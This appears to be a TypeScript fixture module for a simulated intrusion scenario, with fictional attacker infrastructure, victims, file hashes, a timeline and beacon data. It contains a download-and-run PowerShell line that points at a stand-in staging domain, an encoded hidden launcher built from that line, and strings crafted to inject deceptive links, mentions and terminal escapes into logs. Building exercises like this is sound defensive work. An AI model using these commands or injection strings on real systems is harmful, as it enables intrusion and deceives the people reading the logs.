/** A moment of the story: so many of the company's days before today, at a time of its clock. */
export interface Moment {
  readonly daysAgo: number;
  readonly at: string;
}

/** What the attacker uses. Documentation addresses and domains, but for three public ones that show a location. */
export const infrastructure = {
  /** Tor exits that the spray comes from. */
  torExits: ['185.220.101.34', '185.220.101.46'],
  /** A rented server in the spray, in a documentation range. */
  sprayHost: '192.0.2.144',
  /** A hijacked server in Berlin that the stolen mailbox is read through. */
  hijackedServer: '85.214.149.236',
  /** Serves the first script and takes the beacons. */
  controlServer: '192.0.2.145',
  controlDomain: 'telemetry.skyline-cdn.example',
  stagingDomain: 'static.skyline-cdn.example',
  loginDomain: 'login.skyline-cdn.example',
  /** Takes the stolen files. */
  dropServer: '192.0.2.201',
  dropDomain: 'drop.filebridge.example',
  /** Where the forwarding rule sends mail. */
  mailDrop: 'accounts.larkmoor@mail-relay.example',
} as const;

/** Who and what falls. */
export const victims = {
  /** The password that the spray guesses; her mailbox forwards. */
  first: 'aoife.brennan',
  /** Opens the document; his workstation beacons and his account reads the shares. */
  second: 'conor.walsh',
  secondHost: 'WS-FIN-12',
  /** Administrator of Azure who in the end presses “approve”. */
  administrator: 'shane.doyle',
  /** Cracked service account. */
  service: 'svc-reports',
  fileServer: 'FS01',
  /** Shares read at night that Finance never reads. */
  shares: ['Designs', 'Firmware', 'Legal', 'Board'],
} as const;

/** Files of the attack; the hashes are of made-up text, not of any real file. */
export const files = {
  document: {
    name: 'Supplier_Statement.docm',
    size: 184_320,
    sha256: '054b295369eecece3e1c36bb346440506f41acfea54c08a78ea943b9c1a0119f',
    sha1: '803995070265cf809afaf2681cd9e877e2604950',
    md5: '0fed000efa119aae9f3830340f76ae2f',
  },
  implant: {
    name: 'synchelper.exe',
    folder: 'C:\\ProgramData\\SyncHelper',
    size: 421_888,
    sha256: 'c54e96137d04de899015aed7a399752cb40b0607187e33518f665205d2cbbb55',
    sha1: 'd674ee136f64910dc510797ba6c5600e1bab4657',
    md5: '5b70ed4b4d4a4279af3023ddcab98e28',
  },
  script: {
    name: 's.ps1',
    size: 9_421,
    sha256: '32d010220bd6d4d3ad73fb6b54d2af67ee2a94e59aad04376f81301879e36941',
    sha1: '0800ece0b6986bdf571c0ffba68f0f62cc02cb3f',
    md5: 'e27b7a5bac0727eeaa32504a5a0383ac',
  },
  archive: {
    name: 'q.7z',
    folder: 'C:\\ProgramData\\SyncHelper\\cache',
    size: 4_512_874_496,
    sha256: '34eb5a7db2dd92702f8c0dc8b21a65628d6f3ecf4d233b26c811e4d0e49ccbec',
    sha1: 'c58e06b9d4935ddde6569a4518e97f292a2de225',
    md5: '6292eb874fc3932cc13b0a1bf8e8b85a',
  },
} as const;

/** When each step happens. */
export const timeline = {
  sprayStart: { daysAgo: 9, at: '02:10' },
  sprayEnd: { daysAgo: 9, at: '03:24' },
  sprayHit: { daysAgo: 9, at: '03:21' },
  foreignSignIn: { daysAgo: 8, at: '08:52' },
  forwardingRule: { daysAgo: 8, at: '09:06' },
  oauthConsent: { daysAgo: 8, at: '09:19' },
  internalPhish: { daysAgo: 7, at: '10:14' },
  documentOpened: { daysAgo: 7, at: '10:31' },
  implantRun: { daysAgo: 7, at: '10:33' },
  beaconStart: { daysAgo: 7, at: '10:36' },
  memoryDump: { daysAgo: 5, at: '14:20' },
  kerberoast: { daysAgo: 4, at: '23:12' },
  serviceLogon: { daysAgo: 3, at: '00:58' },
  shares1: { daysAgo: 3, at: '01:05' },
  shares2: { daysAgo: 2, at: '00:40' },
  archive: { daysAgo: 2, at: '02:20' },
  linuxFoothold: { daysAgo: 2, at: '03:20' },
  dataOut1: { daysAgo: 2, at: '02:50' },
  dataOut2: { daysAgo: 1, at: '02:30' },
  adminPrompts: { daysAgo: 2, at: '22:41' },
  adminRole: { daysAgo: 2, at: '22:58' },
  secretsRead: { daysAgo: 2, at: '23:20' },
  directoryCopied: { daysAgo: 3, at: '01:40' },
  tunnel: { daysAgo: 1, at: '03:25' },
  filesDeleted: { daysAgo: 1, at: '03:40' },
  blobsRead: { daysAgo: 1, at: '03:10' },
} as const satisfies Record<string, Moment>;

/** Process ids on the second victim's workstation, so that parents and children can be joined. */
export const processIds: Readonly<Record<string, number>> = {
  'OUTLOOK.EXE': 5_016,
  'WINWORD.EXE': 7_120,
  'powershell.exe': 9_344,
  'synchelper.exe': 10_288,
  '7z.exe': 11_452,
};

/** Ids of the same processes in the Security log, which writes them in hexadecimal; and of the session that they run in. */
export const windowsIds = {
  session: '0x7a3f21c',
  'explorer.exe': '0xd2c',
  'OUTLOOK.EXE': '0x1398',
  'WINWORD.EXE': '0x1bd0',
  'powershell.exe': '0x2480',
  'whoami.exe': '0x24b4',
  'net.exe': '0x24e8',
  'nltest.exe': '0x2508',
  'schtasks.exe': '0x2544',
  'synchelper.exe': '0x2830',
} as const;

/** Account that the attacker makes for himself on Linux, and what he leaves there. */
export const linuxFoothold = { host: 'GIT01', account: 'syncd', script: '/usr/local/bin/.sync' } as const;

/** Seconds between beacons, and how far each may stray either way. */
export const beacon = { everySeconds: 300, jitterSeconds: 6, sentBytes: 1_842, receivedBytes: 612 } as const;

/** Bytes of each upload to the drop server, in order, one every nine minutes. */
export const uploads = {
  dataOut1: [612_368_384, 598_114_304, 640_679_936, 587_202_560, 655_360_000],
  dataOut2: [498_073_600, 521_142_272, 399_507_456],
} as const;

/** What the macro's first command line decodes to. */
export const firstScript = `IEX(New-Object Net.WebClient).DownloadString('https://${infrastructure.stagingDomain}/s.ps1')`;

/** PowerShell's `-enc` wants Base64 over UTF-16LE. */
export const encodedCommand = `powershell.exe -NoP -W Hidden -Enc ${Buffer.from(firstScript, 'utf16le').toString('base64')}`;

/** Text that the attacker gets into the logs to fool whoever reads them in a chat. */
export const hostileText = {
  guestName: `[Reset your password](https://${infrastructure.loginDomain}/reset)`,
  appName: '<!channel> <at>Everyone</at> IT Support Sync',
  userAgent: `Mozilla/5.0 <https://${infrastructure.loginDomain}/case|Open incident> (X11; Linux x86_64)`,
  /** The right-to-left override makes it read `Statement_exe.pdf`. */
  fileName: 'Statement_\u202Efdp.exe',
  /** Colour and bell escapes for whoever reads in a terminal. */
  sshUser: '\u001b[31mroot\u001b[0m\u0007',
  subject: '**URGENT** [Pay now](https://login.skyline-cdn.example/pay) <!here>',
} as const;
